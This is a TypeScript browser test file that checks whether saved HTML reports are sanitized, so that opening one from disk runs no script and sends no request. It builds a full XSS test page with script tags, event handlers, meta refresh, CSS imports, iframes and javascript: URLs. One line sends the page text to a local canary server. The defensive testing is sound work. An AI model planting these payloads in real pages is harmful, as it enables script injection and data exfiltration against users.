/** HTML reports as files: opened from the disk in a real browser, with a server that records every request. */
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { api } from "../../shared/contract/index.ts";
import { MAX_ANSWERS_BYTES, MAX_INLINE_OUTPUT_BYTES } from "../../shared/limits.ts";
import { savedHtml } from "../../shared/print/saved-html.ts";
import { publishTypedForm } from "../faults/lost-typing/typed-form.ts";
import { mutations } from "../security/mutations.ts";
import { launchTestBrowser } from "../support/browser.ts";
import { must, signUpDesigner, submitAnswers, waitForReports } from "../support/published-form.ts";
import { type Client, useStack } from "../support/stack.ts";

const stack = useStack();
let browser: Browser;
let canary: Server;
let elsewhere: string;
let folder: string;
let designer: Client;
const requests: string[] = [];

beforeAll(async () => {
  browser = await launchTestBrowser();
  folder = await mkdtemp(join(tmpdir(), "sprout-saved-"));
  canary = createServer((request, response) => {
    requests.push(request.url ?? "");
    response.end();
  });
  canary.on("connection", (socket) => socket.once("error", () => {}));
  await new Promise<void>((listening) => canary.listen(0, "127.0.0.1", listening));
  elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`; // a TCP server's address is an object
  designer = stack.client();
  await signUpDesigner(designer, stack.mails);
});
afterAll(async () => {
  await browser?.close();
  canary?.closeAllConnections();
  await new Promise((closed) => canary.close(closed));
  await rm(folder, { recursive: true, force: true });
});

/** Everything that makes a page run code or send a request, each with a mark of its own. */
const hostile = (
  to: string,
) => `<!doctype html><html lang="en" manifest="${to}/manifest" onload="document.title='ran'"><head>
<meta http-equiv="refresh" content="0; url=${to}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="${to}/"><link rel="stylesheet" href="${to}/link.css"><link rel="preconnect" href="${to}"><link rel="prefetch" href="${to}/prefetch">
<script>document.title = "ran"; fetch("${to}/script?" + document.body.innerText)</script><script src="${to}/src.js"></script>
<script type="speculationrules">{"prefetch":[{"urls":["${to}/speculation"]}]}</script>
<style>@import "${to}/import.css"; body { background: u\\72l(${to}/escaped) } p { background: url(${to}/css) } @font-face { font-family: x; src: url(${to}/font) } p { font-family: x }</style>
</head><body background="${to}/body" onload="document.title='ran'"><p>Ada Lovelace, né {{name}}</p>
<img src="${to}/img" srcset="${to}/srcset 2x" onerror="document.title='ran'"><img src="x" onerror="document.title='ran'">
<svg onload="document.title='ran'"><image href="${to}/svg"/><use xlink:href="${to}/use#x"/><script>document.title='ran'</script></svg>
<iframe src="${to}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><iframe src="javascript:parent.document.title='ran'"></iframe>
<object data="${to}/object"></object><embed src="${to}/embed"><video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>
<details open ontoggle="document.title='ran'">x</details><input autofocus onfocus="document.title='ran'"><input type="image" src="${to}/input">
<a id="a" href="javascript:document.title='ran'" ping="${to}/ping">script</a><form id="f" action="${to}/form"><button id="b">Send</button></form>
<div><template shadowrootmode="open"><img src="${to}/shadow"></template></div><math><mtext><img src="${to}/math" onerror="document.title='ran'"></mtext></math></body></html>`;

/** Opens a file from the disk and watches it for a while. @returns what it requested, and what `look` sees */
async function openFromDisk<Seen>(body: Uint8Array | string, look: (page: Page) => Promise<Seen>) {
  requests.length = 0;
  const file = join(folder, "report.html");
  await writeFile(file, body);
  const page = await browser.newPage();
  try {
    await page.goto(pathToFileURL(file).href, { waitUntil: "commit" });
    await page.waitForTimeout(800);
    const seen = await look(page);
    return { requests: [...requests], seen };
  } finally {
    await page.close();
  }
}

/** Presses everything that can be pressed, and reports whether anything ran. */
async function press(page: Page) {
  for (const id of ["a", "b"]) await page.locator(`#${id}`).dispatchEvent("click", {}, { timeout: 20_000 });
  await page.waitForTimeout(300);
  return {
    title: await page.title(),
    isHere: page.url().startsWith("file:"),
    text: await page.innerText("body"),
  };
}

const look = async (page: Page) => ({ title: await page.title(), isHere: page.url().startsWith("file:") });

/** What a browser finds alive in each page, read once and a second time, and whether both are the same. */
function readTwice(pages: readonly string[]) {
  const parser = new DOMParser();
  const alive = (from: Document) =>
    [...from.querySelectorAll("*")].filter((one) => {
      const isAsking = [...one.attributes].some(({ name, value }) =>
        name === "src" ? !value.startsWith("data:") : /^on|^srcdoc$|^action$/i.test(name),
      );
      const isRefresh = one.localName === "meta" && one.getAttribute("http-equiv") === "refresh";
      return (
        isAsking || isRefresh || /^(script|iframe|link|base|object|embed|template)$/i.test(one.localName)
      );
    });
  return pages.map((page, at) => {
    const first = parser.parseFromString(page, "text/html");
    const again = parser.parseFromString(`<!DOCTYPE html>${first.documentElement.outerHTML}`, "text/html");
    const written = ({ documentElement }: Document) => documentElement.outerHTML.replace(/\s+/g, ""); // a textarea's first break is lost
    return {
      at,
      isSame: written(first) === written(again),
      found: [...alive(first), ...alive(again)].map((one) => one.outerHTML.slice(0, 200)),
    };
  });
}

const still = { requests: [], seen: { title: "", isHere: true } };

async function publishReport(template: string): Promise<string> {
  const { formId, publicationKey: _ } = await publishTypedForm(designer);
  const { model } = must(await designer.call(api.process.processes, { id: formId }));
  const root = JSON.parse(model);
  const report = {
    key: crypto.randomUUID(),
    name: "Report",
    description: "",
    processType: "HANDLEBARS",
    children: [],
    publicOutputInd: true,
    outputName: "Report",
    propertySets: [],
    level: 1,
    template,
  };
  const saved = { formId, model: JSON.stringify({ ...root, children: [report] }) };
  must(await designer.call(api.process.processSave, saved));
  return must(
    await designer.call(api.forms.publish, {
      id: formId,
      publicationName: "Hostile",
      reportWarnings: "accept",
    }),
  ).publicationKey;
}

describe("an HTML report that was saved", () => {
  it("would make requests if it were as its template made it", async () => {
    const { requests: received } = await openFromDisk(hostile(elsewhere), async () => {});
    expect(received.length).toBeGreaterThan(5);
  });

  it("runs nothing and requests nothing, as the call returns it and as the page saves it", async () => {
    const publicationKey = await publishReport(hostile(elsewhere));
    const respondent = stack.client();
    const { ref } = await submitAnswers(respondent, publicationKey, { name: "Ada" });
    const { outputReferences } = await waitForReports(respondent, ref);
    const [{ outputId = "" } = {}] = outputReferences;
    const { data = "" } = must(await respondent.call(api.runtime.output, { ...ref, outputId }));
    const body = Buffer.from(data, "base64");
    expect(body.toString()).toMatch(
      /^<!DOCTYPE html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"/i,
    );
    expect(body.toString()).not.toMatch(/<script|\son\w+=|refresh|<link|javascript:/i);
    const opened = await openFromDisk(body, press);
    expect(opened).toMatchObject(still);
    expect(opened.seen.text).toContain("Ada Lovelace, né Ada");

    const context = await browser.newContext({ locale: "en-US", acceptDownloads: true });
    const page = await context.newPage();
    await page.goto(`${stack.origin}/i/${ref.instanceKey}#${ref.authKey}`);
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download Report" }).click();
    const path = await (await download).path();
    const fromPage = await openFromDisk(await readFile(path), press);
    await context.close();
    expect(fromPage).toMatchObject(still);
  });

  it("is read by a browser as it was checked, however often it is written and read again", async () => {
    const live = `<img src=${elsewhere}/img onerror=document.title='ran'><meta http-equiv=refresh content='0;url=${elsewhere}/refresh'>`;
    const pages = mutations(live);
    const page = await browser.newPage();
    const read = await page.evaluate(readTwice, pages.map(savedHtml));
    expect(read.filter(({ isSame }) => !isSame).map(({ at }) => pages[at])).toEqual([]);
    expect(read.flatMap(({ found }) => found)).toEqual([]);
    const unguarded = await page.evaluate(readTwice, pages);
    expect(unguarded.filter(({ found }) => found.length > 0).length).toBeGreaterThan(20);
    await page.close();
    // one after the other in one file, and scripts are on: as `noscript` is read otherwise then
    const opened = await openFromDisk(
      savedHtml(pages.filter((one) => one.length < 1_000).join("<hr>")),
      look,
    );
    expect(opened).toEqual({ requests: [], seen: { title: "", isHere: true } });
  });

  it("runs nothing either when it is so large that it is downloaded by a link", async () => {
    const long = "<p>{{story}}</p>".repeat(Math.ceil(MAX_INLINE_OUTPUT_BYTES / (MAX_ANSWERS_BYTES / 2)) + 1);
    const publicationKey = await publishReport(hostile(elsewhere).replace("</body>", `${long}</body>`));
    const respondent = stack.client();
    const { ref } = await submitAnswers(respondent, publicationKey, {
      story: "x".repeat(MAX_ANSWERS_BYTES / 2),
    });
    const { outputReferences } = await waitForReports(respondent, ref);
    const [{ outputId = "" } = {}] = outputReferences;
    const { url = "" } = must(await respondent.call(api.runtime.output, { ...ref, outputId }));
    const body = new Uint8Array(await (await fetch(url)).arrayBuffer());
    expect(body.length).toBeGreaterThan(MAX_INLINE_OUTPUT_BYTES);
    expect(await openFromDisk(body, press)).toMatchObject(still);
  });
});
